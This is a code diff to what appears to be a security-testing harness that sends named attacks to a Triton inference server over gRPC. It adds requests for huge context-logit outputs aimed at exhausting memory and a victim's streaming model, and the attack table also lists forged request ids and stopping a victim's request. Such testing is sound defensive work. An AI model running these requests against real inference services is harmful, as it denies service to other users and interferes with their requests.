@@ -18,7 +18,7 @@ from tritonclient.grpc import service_pb2
 from tritonclient.grpc.service_pb2_grpc import GRPCInferenceServiceStub
 
 from trials.door_attacks import VICTIM_REQUEST_ID
-from trials.doors import GRPC_OPTIONS, Attack, Doors, answers, ask, infer_request, told
+from trials.doors import GRPC_OPTIONS, STREAMING_MODEL, Attack, Doors, answers, ask, infer_request, told
 
 _ATTENTION_OUT = 4
 """The module of the attention's output, on the wire."""
@@ -26,6 +26,8 @@ _ATTENTION_OUT = 4
 _ATTACK_S = 5.0
 _MAX_WORDS = 4096
 _MAX_BIASES = 65_536
+_MAX_LOGITS = 341
+"""Of 49,152 words: 67 MB, of 64 MiB."""
 
 
 def stream_of_attacks(doors: Doors, make: Callable[[int], service_pb2.ModelInferRequest], at_once: int = 8) -> str:
@@ -99,10 +101,16 @@ def send_as_many_biases_as_allowed(doors: Doors) -> str:
 
 def ask_for_logits(doors: Doors) -> str:
     """Of 1,300 tokens: 255 MB an answer."""
-    request = infer_request(
-        "generation_unary", input_ids=[[9] * 1300], max_tokens=[[1]], return_context_logits=[[True]]
-    )
-    return answers(doors, [request] * 4, at_once=4)
+    return answers(doors, [_with_logits("generation_unary", 1300)] * 4, at_once=4)
+
+
+def ask_for_as_many_logits_as_allowed(doors: Doors) -> str:
+    return stream_of_attacks(doors, lambda _: _with_logits("generation_unary", _MAX_LOGITS), at_once=4)
+
+
+def ask_the_victims_model_for_as_many_logits_as_allowed(doors: Doors) -> str:
+    """All that a model answers passes one thread, which copies them."""
+    return stream_of_attacks(doors, lambda _: _with_logits(STREAMING_MODEL, _MAX_LOGITS), at_once=4)
 
 
 def penalise_long_prompts(doors: Doors) -> str:
@@ -163,6 +171,8 @@ ENGINE_ATTACKS: Mapping[str, Attack] = {
     "64 rows x 128 sequences": send_rows_times_sequences,
     "32,768 biases, again and again": send_as_many_biases_as_allowed,
     "4 x the logits of 1,300 tokens": ask_for_logits,
+    "logits of 341 tokens, again and again": ask_for_as_many_logits_as_allowed,
+    "the same of the victim's model": ask_the_victims_model_for_as_many_logits_as_allowed,
     "4 repetition penalties over 4,000 tokens": penalise_long_prompts,
     "request ids with a newline, an escape, of 1 MB": send_forged_ids,
     "stop by the victim's id": stop_the_victims_request,
@@ -176,6 +186,10 @@ def _prompt(request_id: str = "", rows: int = 1, **options: Any) -> service_pb2.
     options = {"max_tokens": 16, "end_id": -1} | options
     tensors = {name: [value if isinstance(value, list) else [value]] * rows for name, value in options.items()}
     return infer_request("generation_unary", request_id, text_input=[["Tell a story."]] * rows, **tensors)
+
+
+def _with_logits(model: str, num_tokens: int) -> service_pb2.ModelInferRequest:
+    return infer_request(model, input_ids=[[9] * num_tokens], max_tokens=[[1]], return_context_logits=[[True]])
 
 
 def _guided(schemas: list[str]) -> service_pb2.ModelInferRequest:
